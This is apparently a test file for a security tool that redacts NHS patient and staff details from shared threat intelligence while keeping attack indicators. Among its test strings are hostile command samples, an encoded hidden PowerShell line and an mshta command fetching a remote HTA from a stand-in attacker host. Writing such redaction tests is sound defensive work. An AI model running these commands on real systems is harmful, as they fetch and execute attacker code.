"""What is shared holds no patient, no member of staff and no internal name."""

import csv
import re
from importlib.resources import files

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watchward.intel.never import Own
from watchward.intel.personal import MARKS, Inside, Taken, find
from watchward.intel.sharing import Fate, cleaned, to_share
from watchward.telemetry.masking import is_nhs_number

INSIDE = Inside(
    own=Own.of(domains=["trust.example"], networks=["203.0.113.0/24"]),
    hosts=frozenset({"WARD7-PC"}),
    users=frozenset({"jsmith"}),
)


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("943 476 5919", Taken.NHS_NUMBER),
        ("?id=9434765919&", Taken.NHS_NUMBER),
        ("943-476-5919", Taken.NHS_NUMBER),
        ("943%20476%205919", Taken.NHS_NUMBER),
        ("943\u200b4765919", Taken.NHS_NUMBER),
        ("12/03/1948", Taken.BIRTH_DATE),
        ("1948-03-12", Taken.BIRTH_DATE),
        ("3rd March 1948", Taken.BIRTH_DATE),
        ("DOB: 120348", Taken.BIRTH_DATE),
        ("SW1A 1AA", Taken.POSTCODE),
        ("ls11aa", Taken.POSTCODE),
        ("07700 900123", Taken.PHONE),
        ("+44 (0)20 7946 0018", Taken.PHONE),
        ("Mrs Mary O'Neill", Taken.PERSON),
        ("Patient: John Smith", Taken.PERSON),
        ("jo.bloggs@nhs.net", Taken.MAIL),
        ("jo.bloggs@it.trust.example", Taken.MAIL),
        (r"C:\Users\mbrown\a.exe", Taken.USER),
        ("/home/mbrown/.ssh", Taken.USER),
        ("JSMITH", Taken.USER),
        ("S-1-5-21-1-2-3-1104", Taken.USER),
        ("ward7-pc", Taken.HOST),
        (r"\\fileserver\wards$\list.doc", Taken.SHARE),
        ("10.1.2.3", Taken.ADDRESS),
        ("203.0.113.9:443", Taken.ADDRESS),
        ("fe80::1", Taken.ADDRESS),
        ("00:1A:2B:3C:4D:5E", Taken.HARDWARE),
        ("pas.trust.example", Taken.DOMAIN),
        ("dc01.hospital.local", Taken.DOMAIN),
        ("http://intranet.trust.nhs.uk/x", Taken.DOMAIN),
    ],
)
def test_what_tells_of_a_person_or_of_the_inside_is_taken(text, what):
    kept, taken = cleaned(f"say {text} now", INSIDE)
    assert set(taken) == {what}
    assert what.mark in kept


@pytest.mark.parametrize(
    "text",
    [
        "http://evil.example/invoice.hta",
        "198.51.100.7:8443",
        "2001:db8::1",
        "powershell.exe -nop -w hidden -enc SQBFAFgA",
        r"C:\Windows\System32\mshta.exe",
        r"C:\Users\Public\x.exe",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "2026-11-22T10:11:12Z",
        "attacker@evil.example",
        "9434765918",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        "{5e1f3b9a-6a5c-4f1e-9c59-0a0a0a0a0a01}",
    ],
)
def test_what_tells_of_the_attack_is_kept(text):
    assert cleaned(text, INSIDE) == (text, {})


def test_each_field_says_what_becomes_of_it_and_why():
    shared = to_share(
        {
            "CommandLine": r"mshta http://evil.example/x.hta \\fs01\share for Mrs Jones",
            "User": r"WARDS\nbrown",
            "Image": r"C:\Windows\System32\mshta.exe",
            "Computer": "PC1234.trust.example",
            "ParentCommandLine": "outlook.exe /u NBROWN on pc1234",
            "Account": r"NT AUTHORITY\SYSTEM",
        },
        INSIDE,
    )
    assert shared.fields == {
        "CommandLine": "mshta http://evil.example/x.hta ⟦shared folder⟧ for ⟦person⟧",
        "User": "⟦user⟧",
        "Image": r"C:\Windows\System32\mshta.exe",
        "Computer": "⟦computer⟧",
        "ParentCommandLine": "outlook.exe /u ⟦user⟧ on ⟦computer⟧",
        "Account": r"NT AUTHORITY\SYSTEM",
    }
    fates = {decision.field: decision.fate for decision in shared.decisions}
    assert fates["CommandLine"] is Fate.IN_PART
    assert (fates["User"], fates["Image"], fates["Account"]) == (Fate.TAKEN, Fate.KEPT, Fate.KEPT)
    assert shared.decisions[0].why == "Taken out: person (1), shared folder (1)."
    assert shared.taken == {Taken.HOST: 2, Taken.PERSON: 1, Taken.SHARE: 1, Taken.USER: 2}


def an_nhs_number(nine):
    check = (11 - sum(int(digit) * weight for digit, weight in zip(nine, range(10, 1, -1), strict=True)) % 11) % 11
    return f"{nine}{check}" if check < 10 else None


secrets = st.one_of(
    st.from_regex(r"[0-9]{9}", fullmatch=True).filter(str.isascii).map(an_nhs_number).filter(bool),
    st.sampled_from(["10.1.2.3", "jsmith", "WARD7-PC", "jo@nhs.net", "12/03/1948", "SW1A 1AA", "pas.trust.example"]),
)
glue = st.sampled_from(
    ["", " ", "-", ".", "/", "\\", "⟦", "⟧", "⟦user⟧", "x", "7", "@", ":", "\\Users\\", "\u200b", "Mrs "],
)
texts = st.lists(secrets | glue | st.text(max_size=4), max_size=10).map("".join)


@given(texts)
def test_what_goes_holds_nothing_that_would_be_found(text):
    kept, _ = cleaned(text, INSIDE)
    for piece in MARKS.split(kept):
        assert list(find(piece, INSIDE)) == []


@given(texts)
def test_cleaning_twice_changes_no_more(text):
    once, _ = cleaned(text, INSIDE)
    assert cleaned(once, INSIDE) == (once, {})


@given(st.lists(st.tuples(secrets, st.sampled_from([" ", ", ", "; "])), min_size=1, max_size=5))
def test_no_secret_that_stands_by_itself_goes(pairs):
    kept, taken = cleaned("".join(f"{secret}{after}" for secret, after in pairs), INSIDE)
    bare = MARKS.sub("", kept)
    assert not any(secret in bare for secret, _ in pairs)
    assert sum(taken.values()) >= 1


names = st.sampled_from(["CommandLine", "User", "Computer", "dob", "QueryName", "Image"])


@given(st.dictionaries(names, texts))
def test_sharing_what_was_shared_takes_no_more_and_says_so_for_each_field(fields):
    once = to_share(fields, INSIDE)
    again = to_share(once.fields, INSIDE)
    assert again.fields == once.fields
    assert [decision.field for decision in once.decisions] == list(fields)
    assert all(decision.why for decision in once.decisions)
    assert again.taken == {}


def test_the_check_digit_of_the_numbers_in_these_tests_is_right():
    assert is_nhs_number(an_nhs_number("943476591"))


NAMES = re.compile(
    r"user|account|acct|host|owner|member|upn|computer|workstation|device|principal|machine|endpoint|displayname|actor",
    re.IGNORECASE,
)
EXCUSED = {
    "what kind it is, and nobody's name": "accounttype device.os.type device.os.type_id devicedetail.iscompliant "
    "devicedetail.ismanaged devicedetail.operatingsystem devicedetail.trusttype devicedetail.browser devicedescription "
    "host.os.type usertype useraccountcontrol useridentity.type "
    "useridentity.sessioncontext.sessionissuer.type useridentity.sessioncontext.attributes.mfaauthenticated",
    "what a program calls itself": "c-useragent client.useragent.rawuseragent cs-user-agent user_agent useragent "
    "appdisplayname resourcedisplayname initiatedby.app.displayname hostapplication",
    "what was done, or to which property": "activitydisplayname attributeldapdisplayname "
    "targetresources.modifiedproperties.displayname",
    "a file or a command, in which names are found by shape": "actor.process.cmd_line actor.process.file.path "
    "actor.process.parent_process.file.path hostpath",
    "a number that names nobody outside": "actor.process.pid user.audit.id user.effective.id recipientaccountid "
    "useridentity.accountid dst_endpoint.port src_endpoint.port",
    "an address, which is found by shape": "dst_endpoint.ip src_endpoint.ip host.ip initiatedby.user.ipaddress",
    "a name of the outside, asked for by a program": "cs-host query.hostname dst_endpoint.domain endpoint",
    "a flaw that was found": "host.scan.vuln host.scan.vuln_name",
    "a secret that its sender hides": "responseelements.pendingmodifiedvalues.masteruserpassword",
}


def test_every_field_that_is_called_after_people_or_computers_is_cleaned_or_excused():
    data = files("watchward.telemetry") / "data" / "fields.csv"
    fields = [row["field"] for row in csv.DictReader(data.read_text(encoding="utf-8").splitlines())]
    excused = {name for names in EXCUSED.values() for name in names.split()}

    passed = {
        name.lower()
        for name in fields
        if NAMES.search(name) and to_share({name: "j.quux"}, INSIDE).decisions[0].fate is Fate.KEPT
    }

    assert passed == excused
